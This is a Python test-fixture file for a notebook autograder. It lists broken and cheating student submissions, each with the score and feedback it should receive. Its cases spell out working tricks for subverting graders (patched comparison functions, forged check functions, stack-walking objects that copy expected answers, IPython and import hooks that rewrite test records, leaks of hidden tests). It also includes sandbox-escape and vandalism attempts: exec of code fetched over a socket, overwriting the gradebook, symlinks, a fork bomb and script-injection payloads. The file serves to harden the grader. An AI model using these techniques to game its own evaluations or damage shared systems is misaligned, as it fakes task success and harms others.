"""What real classes hand in, for chapter 1: broken submissions and attempts to cheat, each with the
score it must earn and words its feedback must contain (tests/test_broken_submissions.py grades
them all in one batch). A cheat must earn nothing for the exercise it cheats on and full marks
for the honest ones.

A case with score 0 is one the grader could not grade (the parallel grader names it) unless it says
``ungradable=False``. A case's ``files(answers)`` returns the submission's files as ``{name: text}``; ``answers(**cells)``
is the reference solution's notebook with the named solution cells (by grade_id) replaced. In the
texts, CLASS_DIR and COURSE_DIR stand for the class's and the course's folders (an attacker may
know them). Chapter 1 has 9 exercises worth 3 points each (1 visible + 2 hidden): 27 in all; the
l1 cell is cell 15, after sigmoid and mse (6 points).

The caps the test grades with (tests/test_broken_submissions.py sets them low, and each case below
goes just past its cap, so that a broken cap cannot take the test machine down): 1 GB of memory,
64 processes, 20 MB written, 10 s per cell.
"""

import copy

import nbformat

NOTEBOOK = "losses.ipynb"
RIGHT_L1 = "def l1(y_pred, y):\n    return np.mean(np.abs(y_pred - y))\n"
WRONG_MSE = "def mse(y_pred, y):\n    return np.mean(np.abs(y_pred - y))\n"
# Where the test serves a right mse to any submission that asks over the network.
SOLUTION_SERVER = ("127.0.0.1", 47631)


def right_then(code):
    """``files`` of a right submission whose l1 cell runs ``code`` first."""
    return lambda answers: notebook(answers(l1=code + RIGHT_L1))


def notebook(nb, name=NOTEBOOK):
    return {name: nbformat.writes(nb)}


def wrong_mse_then(code):
    """``files`` of a submission whose mse cell holds a wrong mse, then ``code``."""
    return lambda answers: notebook(answers(mse=WRONG_MSE + code))


def with_cells(nb, *cells):
    nb.cells.extend(cells)
    return nb


def with_kernel(nb, kernelspec):
    nb.metadata.pop("kernelspec", None)
    if kernelspec:
        nb.metadata.kernelspec = kernelspec
    return nb


def cells_where(nb, keep):
    nb.cells = [cell for cell in nb.cells if keep(cell)]
    return nb


def grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def duplicated(nb, name):
    """The cell ``name`` copied and pasted below itself, as JupyterLab does (a new cell id)."""
    index = [grade_id(cell) for cell in nb.cells].index(name)
    copied = copy.deepcopy(nb.cells[index])
    copied.id = "pasted-copy"
    nb.cells.insert(index + 1, copied)
    return nb


def without_grader_metadata(nb):
    """The notebook as another tool saves it: cell ids and nbgrader's cell metadata gone."""
    for cell in nb.cells:
        cell.metadata = {}
        cell.pop("id", None)
    nb.nbformat_minor = 4
    return nb


def pasted_from_elsewhere(nb):
    """A graded cell of another chapter pasted in (its grade id unknown here), and a new cell under l1's id."""
    stranger = nbformat.v4.new_code_cell("def sgd_step(w, g, lr):\n    return w - lr * g\n", metadata={
        "nbgrader": {"grade": False, "grade_id": "sgd_step", "locked": False, "schema_version": 3,
                     "solution": True, "task": False}})
    index = [grade_id(cell) for cell in nb.cells].index("l1")
    twin = nbformat.v4.new_code_cell("# my notes on l1\n", metadata=copy.deepcopy(nb.cells[index].metadata))
    nb.cells[index + 1:index + 1] = [stranger, twin]
    return nb


# Run inside the student's functions while hidden tests call them: everything the kernel can read of
# the test that calls it (its frames' source, linecache, IPython's input history), printed at once and
# kept for the next cells to print again.
LEAK = """
import inspect, linecache, sys
LEAKED, SEEN = globals().setdefault("LEAKED", []), globals().setdefault("SEEN", set())

def leak():
    frame, found = sys._getframe(1), []
    while frame is not None:
        found += linecache.getlines(frame.f_code.co_filename)
        try:
            found += inspect.getsource(frame).splitlines(True)
        except (OSError, TypeError):
            pass
        frame = frame.f_back
    shell = get_ipython()
    found += [line + "\\n" for cell in [*shell.user_ns.get("In", []), *shell.user_ns.get("_ih", [])]
              for line in cell.splitlines()]
    found += [line + "\\n" for _, _, cell in shell.history_manager.get_range(raw=True) for line in cell.splitlines()]
    new = [line for line in dict.fromkeys(found) if line not in SEEN]  # each line once: memory stays small
    SEEN.update(new)
    LEAKED.extend(new)
    print("".join(new))
"""


def leaking(name, body):
    return LEAK + f"\ndef {name}(*args):\n    leak()\n{body}\n"


def as_markdown(nb, name):
    index = [grade_id(cell) for cell in nb.cells].index(name)
    cell = nb.cells[index]
    nb.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    return nb


CASES = [
    dict(student="ada", about="everything right, graded in the same batch", score=27,
         files=lambda answers: notebook(answers()), says="Score: 27"),
    dict(student="raises", about="l1 raises an exception when called", score=24,
         files=lambda answers: notebook(answers(l1="def l1(y_pred, y):\n    raise ValueError('l1 is broken')\n")),
         says="ValueError"),
    dict(student="loops", about="an infinite loop in the l1 cell", score=24,
         files=lambda answers: notebook(answers(l1="while True:\n    pass\n")), says="Timeout"),
    dict(student="crashes", about="the l1 cell kills the kernel (os._exit)", score=24,
         files=lambda answers: notebook(answers(l1="import os\nos._exit(1)\n")), says="KernelDied"),
    dict(student="floods", about="100 MB of output on one line, then a right l1", score=27,
         files=lambda answers: notebook(answers(l1="print('x' * 100_000_000)\n" + RIGHT_L1)),
         says="more characters cut by the grader"),
    dict(student="garbled", about="a notebook that is not valid JSON", score=0,
         files=lambda answers: {NOTEBOOK: '{"cells": [{"cell_type": "code", "source": "def sigmoid(z'},
         says="not valid JSON (line 1"),
    dict(student="kernel", about="a wrong kernel name", score=27,
         files=lambda answers: notebook(with_kernel(answers(), {"name": "python2", "display_name": "Python 2",
                                                                "language": "python"})), says="Score: 27"),
    dict(student="nokernel", about="no kernel named at all", score=27,
         files=lambda answers: notebook(with_kernel(answers(), None)), says="Score: 27"),
    dict(student="deletes", about="the visible test of l1 deleted", score=27,
         files=lambda answers: notebook(cells_where(answers(), lambda cell: grade_id(cell) != "test_l1")),
         says="was missing from the submission. It was added back"),
    dict(student="copies", about="the l1 solution cell copied and pasted below itself", score=27,
         files=lambda answers: notebook(duplicated(answers(), "l1")), says="Score: 27"),
    dict(student="markdown", about="the l1 solution cell turned into Markdown", score=27,
         files=lambda answers: notebook(as_markdown(answers(), "l1")), says="Score: 27"),
    dict(student="warns", about="a right sigmoid that warns on stderr", score=27,
         files=lambda answers: notebook(answers(sigmoid=(
             "import warnings\n\ndef sigmoid(z):\n    warnings.warn('z may be large', RuntimeWarning)\n"
             "    return 0.5 * (1 + np.tanh(z / 2))\n"))), says="Score: 27"),
    dict(student="shape", about="mse returns the squared errors, not their mean", score=24,
         files=lambda answers: notebook(answers(mse="def mse(y_pred, y):\n    return (y_pred - y) ** 2\n")),
         says="shape"),
    # float16 is held to float16's tolerance (the dtype returned, as torch.testing does): the visible test passes,
    # the hidden tests' large residuals overflow float16 (24 before the tolerances followed the dtype).
    dict(student="dtype", about="mse returns float16", score=25,
         files=lambda answers: notebook(answers(
             mse="def mse(y_pred, y):\n    return np.mean((y_pred - y) ** 2).astype(np.float16)\n")),
         says="float16"),
    dict(student="renamed", about="the notebook handed in as losses-Copy1.ipynb", score=27,
         files=lambda answers: notebook(answers(), "losses-Copy1.ipynb"),
         says="handed in as losses-Copy1.ipynb and graded as losses.ipynb"),
    dict(student="missing", about="only an unrelated notebook handed in, with another", score=0,
         files=lambda answers: {**notebook(answers(), "scratch.ipynb"), **notebook(answers(), "other.ipynb")},
         says="No notebook named losses.ipynb was handed in"),
    # Attempts to cheat: mse is wrong (L1 instead of squared errors) and something tries to hide it.
    dict(student="liar", about="mse returns an object that says it equals anything", score=24,
         files=lambda answers: notebook(answers(mse=(
             "class Anything:\n    def __eq__(self, other):\n        return True\n\n    __hash__ = None\n\n"
             "def mse(y_pred, y):\n    return Anything()\n"))), says="not a number or an array of numbers but a Anything"),
    # Nothing is put back before test cells any more (the notebook means what Run All gives, and verdicts are out
    # of the kernel's reach): what these three patch breaks their own later exercises too, and the hidden tests,
    # which run last (24 each while the grader restored the kernel before every test cell).
    dict(student="patcher", about="a wrong mse, and numpy's comparisons and np.abs patched to agree", score=16,
         files=wrong_mse_then(
             "np.allclose = np.array_equal = lambda *args, **kwargs: True\n"
             "np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), bool)\n"
             "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
             "torch.allclose = lambda *args, **kwargs: True\n"
             "np.abs = np.absolute = lambda x, *args, **kwargs: 0 * np.asarray(x)\n"),
         says="values differ"),
    dict(student="helpers", about="a wrong mse, and the course's check functions replaced by no-ops", score=1,
         files=wrong_mse_then(
             "import trainlab.checks, trainlab.grading\n"
             "trainlab.checks.check_close = trainlab.grading.check_against_reference = lambda *args, **kwargs: None\n"
             "check_close = lambda *args, **kwargs: None\n"), says="did not run"),
    dict(student="builtins", about="a wrong mse, and built-ins redefined: abs and sum in builtins, isinstance and "
         "len in the notebook", score=15, files=wrong_mse_then(
             "import builtins\nbuiltins.abs = builtins.sum = lambda *args, **kwargs: 0\n"
             "isinstance = lambda *args: True\nlen = lambda *args: 0\n"), says="values differ"),
    dict(student="swallower", about="a wrong mse, and every exception of later cells swallowed", score=24,
         files=wrong_mse_then(
             "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"),
         says="values differ"),
    # Attempts to get out of the sandbox: each would earn the mse points, or harm the class, if it worked.
    dict(student="peeker", about="a wrong mse, replaced by the instructor notebook's if it can be read", score=24,
         files=wrong_mse_then(
             "import json\nfrom trainlab.grading import solutions_dir\ntry:\n"
             "    cells = json.loads((solutions_dir() / '01_losses' / 'losses.ipynb').read_text())['cells']\n"
             "    exec(next(''.join(c['source']) for c in cells if c['metadata'].get('nbgrader', {}).get('grade_id')"
             " == 'mse'))\nexcept OSError as error:\n    print('could not read the solutions:', error)\n"),
         says="could not read the solutions"),
    dict(student="borrower", about="mse taken from trainlab.grading.reference", score=24,
         files=lambda answers: notebook(answers(mse=(
             "from trainlab.grading import reference\nmse = reference('01_losses', 'mse')\n"))),
         says="keeps the reference solution's mse (01_losses) to itself"),
    dict(student="caller", about="a wrong mse, replaced by one fetched over the network if it can be reached",
         score=24, files=wrong_mse_then(
             f"import socket\ntry:\n    with socket.create_connection({SOLUTION_SERVER}, timeout=5) as server:\n"
             "        exec(server.recv(10_000).decode())\nexcept OSError as error:\n"
             "    print('no network:', error)\n"), says="no network"),
    dict(student="vandal", about="a wrong mse, and the gradebook and every other submission overwritten", score=24,
         files=wrong_mse_then(
             "from pathlib import Path\nclass_dir = Path.cwd().parents[2]\n"
             "others = [path for path in class_dir.glob('*/*/01_losses/*.ipynb') if path.parent != Path.cwd()]\n"
             "print(f'other submissions in sight: {len(others)}')\n"
             "for victim in [class_dir / 'gradebook.db', *others]:\n"
             "    try:\n        victim.write_text('vandal was here')\n    except OSError as error:\n"
             "        print('could not write:', error)\n"),
         says="other submissions in sight: 0"),
    # Caps: the kernel is stopped in the l1 cell (cell 15); sigmoid and mse keep their 6 points.
    dict(student="balloon", about="the l1 cell fills memory, 400 MB at a time, up to 1.6 GB", score=6,
         files=right_then("import numpy as np\nheap = []\nfor _ in range(4):\n    heap.append(np.ones(5 * 10**7))\n"),
         says="used more than 1 GB of memory in cell 15"),
    dict(student="storm", about="the l1 cell forks up to 200 processes that sleep", score=6,
         files=right_then("import os, time\nfor _ in range(200):\n    if os.fork() == 0:\n        time.sleep(60)\n"
                          "        os._exit(0)\n"), says="started more than 64 processes or threads in cell 15"),
    dict(student="filler", about="the l1 cell writes up to 100 files of 1 MB", score=6,
         files=right_then("for n in range(100):\n    with open(f'filler-{n}.bin', 'wb') as f:\n"
                          "        f.write(bytes(10**6))\n"), says="wrote more than 20 MB in cell 15"),
    dict(student="spinner", about="the l1 cell spins and swallows the KeyboardInterrupt of the timeout", score=6,
         files=right_then("while True:\n    try:\n        while True:\n            pass\n"
                          "    except KeyboardInterrupt:\n        pass\n"),
         says="ran longer than 10 s and did not stop when interrupted in cell 15"),
    dict(student="sleeper", about="the l1 cell ignores SIGINT and sleeps for an hour", score=6,
         files=right_then("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(3600)\n"),
         says="ran longer than 10 s and did not stop when interrupted in cell 15"),
    # The graded folder: links the kernel leaves are never followed by what the grader does afterwards.
    dict(student="linker", about="a wrong mse, and links left in the working folder: one named like the notebook "
         "to the gradebook, one to a classmate's submission, one to the instructor notebook", score=24,
         files=wrong_mse_then(
             "import os\nfrom pathlib import Path\nlinks = {'losses.ipynb': 'CLASS_DIR/gradebook.db',\n"
             "         'classmate.ipynb': 'CLASS_DIR/submitted/ada/01_losses/losses.ipynb',\n"
             "         'solutions.txt': 'COURSE_DIR/solutions/01_losses/losses.ipynb'}\n"
             "for name, target in links.items():\n    Path(name).unlink(missing_ok=True)\n"
             "    os.symlink(target, name)\nprint('links left:', len(links))\n"),
         says="links left: 3"),
    # Files handed in next to the notebook are not imported in place of the course's.
    dict(student="shadow", about="a right notebook, handed in with a trainlab/ and a numpy.py that break things",
         score=27, files=lambda answers: {**notebook(answers()),
                                          "trainlab/__init__.py": "raise ImportError('the submission's trainlab')\n",
                                          "numpy.py": "raise ImportError('the submission's numpy')\n"},
         says="Score: 27"),
    # Nothing leaks back: hidden-test source never reaches feedback, whatever student code reads while they run.
    dict(student="leaker", about="right answers that print what they can read of the hidden tests that call "
         "them, and print it again in every later cell", score=27, hidden_lines=0,
         files=lambda answers: notebook(with_cells(answers(
             sigmoid=leaking("sigmoid", "    z = args[0]\n    return 0.5 * (1 + np.tanh(z / 2))"),
             mse="print(''.join(LEAKED))\n" + leaking("mse", "    y_pred, y = args\n"
                                                              "    return np.mean((y_pred - y) ** 2)"),
             l1=RIGHT_L1 + "import warnings\nprint(''.join(LEAKED))\nwarnings.warn(''.join(LEAKED))\n"),
             nbformat.v4.new_code_cell("raise ValueError(''.join(LEAKED))"))),
         says="Score: 27"),
    # Nothing runs where people look: script in Markdown and outputs is shown as text or not at all.
    dict(student="scripter", about="right answers, with script in a Markdown cell and in HTML and Javascript "
         "outputs", score=27, files=lambda answers: notebook(with_cells(answers(l1=(
             RIGHT_L1 + "from IPython.display import HTML, Javascript, display\n"
             "display(HTML('<img src=x onerror=\"document.title=\\'pwned by html\\'\"><script>"
             "document.title=\\'pwned by script\\'</script>'))\n"
             "display(Javascript(\"document.title='pwned by javascript'\"))\n")),
             nbformat.v4.new_markdown_cell("My notes <img src=x onerror=\"document.title='pwned by markdown'\">"
                                           "<script>document.title='pwned by markdown script'</script>"))),
         says="Score: 27"),
    # One student's odd notebook stops nothing for the class, and a notebook edited elsewhere is graded.
    dict(student="delimiter", about="a comment with the hidden-test delimiter in a solution cell", score=27,
         files=lambda answers: notebook(answers(l1="### BEGIN HIDDEN TESTS (my own tests would go here)\n" + RIGHT_L1)),
         says="Score: 27"),
    dict(student="stripped", about="right answers saved by another tool: nbgrader's cell metadata and cell ids gone",
         score=27, files=lambda answers: notebook(without_grader_metadata(answers())), says="Score: 27"),
    dict(student="pasted", about="right answers, a graded cell of another chapter pasted in, and a new cell with "
         "l1's grade id", score=27, files=lambda answers: notebook(pasted_from_elsewhere(answers())),
         says="Score: 27"),
]


# Routes by which code in the kernel could reach a verdict (issue 14): each ran against the grader before the
# verdicts left the kernel (54c6340), which gave it the score in its docstring; now the expected values never
# exist in the kernel and every verdict is the grader's, so each earns nothing for the exercise it attacks.
ECHO = """
import sys
import numpy as np

class Echo:
    \"\"\"Whatever is asked of it, it answers with the expected value it finds on the stack.\"\"\"

    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame is not None:
            if isinstance(frame.f_locals.get("expected"), np.ndarray):
                return frame.f_locals["expected"]
            frame = frame.f_back
        return np.zeros(())

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *args, **kwargs: Echo()

def echo(*args, **kwargs):
    return Echo()
"""
ARRAY_WALKER = ECHO + "\ndef mse(y_pred, y):\n    return Echo()\n"
"""Old grader: 25 (the visible mse point: the recorder's np.asarray called __array__, whose caller held the oracle)."""

TENSOR_WALKER = """
import sys
import numpy as np
import torch

class Walker(torch.Tensor):
    \"\"\"A tensor whose every torch call answers with the expected value found on the stack.\"\"\"

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        frame = sys._getframe(1)
        while frame is not None:
            expected = frame.f_locals.get("expected")
            if isinstance(expected, np.ndarray):
                return torch.from_numpy(np.array(expected))
            frame = frame.f_back
        return super().__torch_function__(func, types, args, kwargs or {})

def mse(y_pred, y):
    return torch.zeros(()).as_subclass(Walker)
"""
"""Old grader: 25 (the recorder called .detach() on the subclass, which returned the oracle)."""

FORGED_CHECK = """
import json, sys

def forged_check(actual, expected=None, *args, **settings):
    \"\"\"Record the expected value as the student's (old records: actual; new: value), print a tick, and put
    the check functions back as they were (builtins.FORGED keeps them).\"\"\"
    import builtins, json
    import trainlab.records as records
    for function, code in getattr(builtins, "FORGED", []):
        function.__code__ = code
    value = expected.evaluate() if hasattr(expected, "evaluate") else expected   # a deferred oracle
    entry = {"actual": records.encode(value), "expected": records.encode(value), "value": records.encode(value),
             **{key: settings.get(key) for key in ("name", "oracle", "rtol", "atol", "check_dtype", "hint")}}
    with open(records.CHANNEL, "a", encoding="utf-8") as file:
        file.write(json.dumps(entry) + "\\n")
    print("✓", settings.get("name"))

def forging_mse_only(original):
    \"\"\"The check function ``original``, forged for the checks of mse only.\"\"\"
    def check(actual, expected=None, *args, **settings):
        if str(settings.get("name", "")).startswith("mse"):
            return forged_check(actual, expected, *args, **settings)
        return original(actual, expected, *args, **settings)
    return check
"""
RECODER = FORGED_CHECK + """
import linecache

def mse(y_pred, y):
    caller = sys._getframe(1)
    if "check_close(mse(" in linecache.getline(caller.f_code.co_filename, caller.f_lineno):  # its visible test
        import builtins, trainlab.checks
        functions = [getattr(trainlab.checks, name) for name in ("check_close", "check") if hasattr(trainlab.checks, name)]
        builtins.FORGED = [(function, function.__code__) for function in functions]
        for function in functions:
            function.__code__ = forged_check.__code__
    return np.mean(np.abs(y_pred - y))
"""
"""Old grader: 25 (mse, called by its visible test after the grader's restore, replaced check_close's code)."""

GLOBALS = WRONG_MSE.replace("def mse(y_pred, y):\n", "import sys\n\ndef mse(y_pred, y):\n"
                            "    import trainlab.checks as checks\n"
                            "    if hasattr(checks, 'record'):  # the recorder as the checks module sees it\n"
                            "        original = checks.record\n"
                            "        checks.record = lambda actual, expected, **kw: original(expected, expected, **kw)\n"
                            "        checks._raise = checks._fail = lambda *args, **kwargs: None\n"
                            "    if hasattr(checks, 'records'):  # now: the recorder's encode, once\n"
                            "        original = checks.records.encode\n"
                            "        def encode(value, *args):\n"
                            "            checks.records.encode = original\n"
                            "            expected = sys._getframe(1).f_locals.get('expected')\n"
                            "            try:\n"
                            "                return original(expected.evaluate(), *args)\n"
                            "            except Exception:\n"
                            "                return original(value, *args)\n"
                            "        checks.records.encode = encode\n")
"""Old grader: 25 (mse replaced the recorder and the failure functions among the checks module's globals)."""

REWRITER = """
import json, sys
from pathlib import Path

CHANNEL = Path("/run/trainlab/records.jsonl")
START = [0]

def note_start(info):
    \"\"\"Before each cell: where its records will start, and the kernel's own failures silenced.\"\"\"
    START[0] = CHANNEL.stat().st_size if CHANNEL.exists() else 0
    checks = sys.modules.get("trainlab.checks")
    if checks is not None and "check_close(mse(" in (info.raw_cell or ""):
        checks._raise = checks._fail = lambda *args, **kwargs: None

def rewrite_records(result):
    \"\"\"Copy each expected value this cell's checks recorded into the student's value.\"\"\"
    if not CHANNEL.exists():
        return
    data = CHANNEL.read_bytes()
    lines = []
    for line in data[START[0]:].decode().splitlines():
        entry = json.loads(line)
        if "array" in entry.get("expected", {}):
            entry["actual"] = entry["value"] = entry["expected"]
        lines.append(json.dumps(entry))
    with open(CHANNEL, "r+b") as file:
        file.seek(START[0])
        file.write("".join(line + "\\n" for line in lines).encode())
        file.truncate()

shell = get_ipython()
shell.events.register("pre_run_cell", note_start)
shell.events.register("post_run_cell", rewrite_records)
"""
"""Old grader: 25 (a post_run_cell hook rewrote the cell's records after its checks; a pre_run_cell hook silenced the
kernel's own failure)."""

TRANSFORMER = """
def answer_with_the_oracle(lines):
    \"\"\"Rewrite the test of mse so that it checks the oracle against itself.\"\"\"
    return [line.replace("check_close(mse(pred, target),", "check_close(torch_result(F.mse_loss, pred, target),")
            for line in lines]

get_ipython().input_transformers_post.append(answer_with_the_oracle)
"""
"""Old grader: 25 (an input transformer survives the restore and rewrote the visible test)."""

HOOK = FORGED_CHECK + """
def forge_before_the_test_of_mse(info):
    import IPython
    namespace = IPython.get_ipython().user_ns
    if "check_close(mse(" in (info.raw_cell or ""):
        namespace["real_check_close"], namespace["check_close"] = namespace["check_close"], forged_check

def put_back(result):
    import IPython
    namespace = IPython.get_ipython().user_ns
    if "real_check_close" in namespace:
        namespace["check_close"] = namespace.pop("real_check_close")

get_ipython().events.register("pre_run_cell", forge_before_the_test_of_mse)
get_ipython().events.register("post_run_cell", put_back)
"""
"""Old grader: 25 (a pre_run_cell hook runs after the restore and rebound check_close for the test of mse)."""

IMPORTER = FORGED_CHECK + """
import importlib.abc, importlib.util

class ForgedChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    \"\"\"Serves trainlab.checks with check_close forged, whenever it is imported afresh.\"\"\"

    def find_spec(self, name, path, target=None):
        if name != "trainlab.checks":
            return None
        sys.meta_path.remove(self)
        try:
            spec = importlib.util.find_spec(name)
        finally:
            sys.meta_path.insert(0, self)
        self.real = spec.loader
        spec.loader = self
        return spec

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        self.real.exec_module(module)
        module.check_close = forging_mse_only(module.check_close)

sys.meta_path.insert(0, ForgedChecks())
"""
"""Old grader: 25 (an import hook forged trainlab.checks when the restore imported it again before each test)."""

ABOVE = FORGED_CHECK + """
import numpy as np
import matplotlib.pyplot as plt
import torch
import torch.nn.functional as F
from trainlab.checks import check_close, torch_result

check_close = forging_mse_only(check_close)
"""
"""Old grader: 25 (the grader's restore re-ran "the first code cell" before each test: this one, above the set-up)."""

STRIPPER = """
import ast

class StripAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(StripAsserts())

def sequence_nll(next_token_logits, tokens):
    total = 0.0
    for t in range(len(tokens)):
        next_token_logits(tokens[:t])                      # called twice per position: against the rules
        logits = next_token_logits(tokens[:t])
        total -= log_softmax(logits)[tokens[t]]
    return total
"""
"""Old grader: 27 (the visible test's assert on the prefixes the model saw was stripped)."""


def above_the_setup(nb, code):
    """The notebook with a code cell of the student's above the set-up cell."""
    nb.cells.insert(0, nbformat.v4.new_code_cell(code))
    return nb


def echoing(answers):
    """A notebook left empty but for every exercise answering with an echoing object. Old grader: 8 (every visible
    test but sequence_nll's, whose model was never called)."""
    return notebook(answers(**{name: ECHO + f"\n{name} = echo\n" for name in (
        "sigmoid", "mse", "l1", "bce", "bce_with_logits", "log_softmax", "cross_entropy", "cross_entropy_grad",
        "sequence_nll")}))


MODER = """
from IPython import get_ipython
import trainlab.records as records, trainlab.verdicts as verdicts

# While the test of mse runs, tell the checks this is the grader's run of the instructor notebook (so they
# compute the oracle), let every comparison pass, and record the oracle's value as the student's.
honest = records.graded, records.reference_run, records.write, verdicts.compare
forged = ((lambda: False), (lambda: True),
          lambda entry: honest[2]({"name": entry["name"], "value": entry.get("expected", entry["value"])}),
          lambda *args, **kwargs: verdicts.Verdict(True, "✓ mse", None))

def before(info):
    records.graded, records.reference_run, records.write, verdicts.compare = (
        forged if "check_close(mse(" in (info.raw_cell or "") else honest)

get_ipython().events.register("pre_run_cell", before)
"""
"""Grader that sent test cells with their oracles to the kernel (before without_oracles): 25, the visible test of mse
passed."""


CASES += [
    dict(student="moder", about="a wrong mse, then the recorder told it runs the instructor notebook and made to "
         "record each oracle's value as the student's", score=24, files=wrong_mse_then(MODER),
         says="not a number or an array of numbers"),
    dict(student="arraywalker", about="mse returns an object whose __array__ copies the oracle from the stack",
         score=24, files=lambda answers: notebook(answers(mse=ARRAY_WALKER)), says="Echo"),
    dict(student="tensorwalker", about="mse returns a tensor subclass whose __torch_function__ copies the oracle",
         score=24, files=lambda answers: notebook(answers(mse=TENSOR_WALKER)), says="Walker"),
    dict(student="recoder", about="a wrong mse that replaces the check functions' __code__ while its test runs",
         score=24, files=lambda answers: notebook(answers(mse=RECODER)), says="GraderCheckFailed"),
    dict(student="globals", about="a wrong mse that replaces the recorder among the check module's globals",
         score=24, files=lambda answers: notebook(answers(mse=GLOBALS)), says="GraderCheckFailed"),
    dict(student="rewriter", about="a wrong mse, and a post_run_cell hook that rewrites the records of each cell",
         score=24, files=wrong_mse_then(REWRITER), says="values differ"),
    dict(student="transformer", about="a wrong mse, and an input transformer that rewrites the test of mse",
         score=24, files=wrong_mse_then(TRANSFORMER), says="GraderCheckFailed"),
    dict(student="hook", about="a wrong mse, and a pre_run_cell hook that forges check_close for its test",
         score=24, files=wrong_mse_then(HOOK), says="GraderCheckFailed"),
    dict(student="importer", about="a wrong mse, and an import hook that forges trainlab.checks", score=24,
         files=wrong_mse_then(IMPORTER), says="values differ"),
    dict(student="above", about="a wrong mse, and a code cell above the set-up cell that forges check_close",
         score=24, files=lambda answers: notebook(above_the_setup(answers(mse=WRONG_MSE), ABOVE)),
         says="values differ"),
    dict(student="stripper", about="sequence_nll calls the model twice per position, and an AST transformer "
         "strips the asserts of the tests", score=26, files=lambda answers: notebook(answers(sequence_nll=STRIPPER)),
         says="the prefixes the model saw"),
    dict(student="echo", about="an otherwise empty notebook whose every exercise returns one echoing object",
         score=0, ungradable=False, files=echoing, says="Echo"),
]
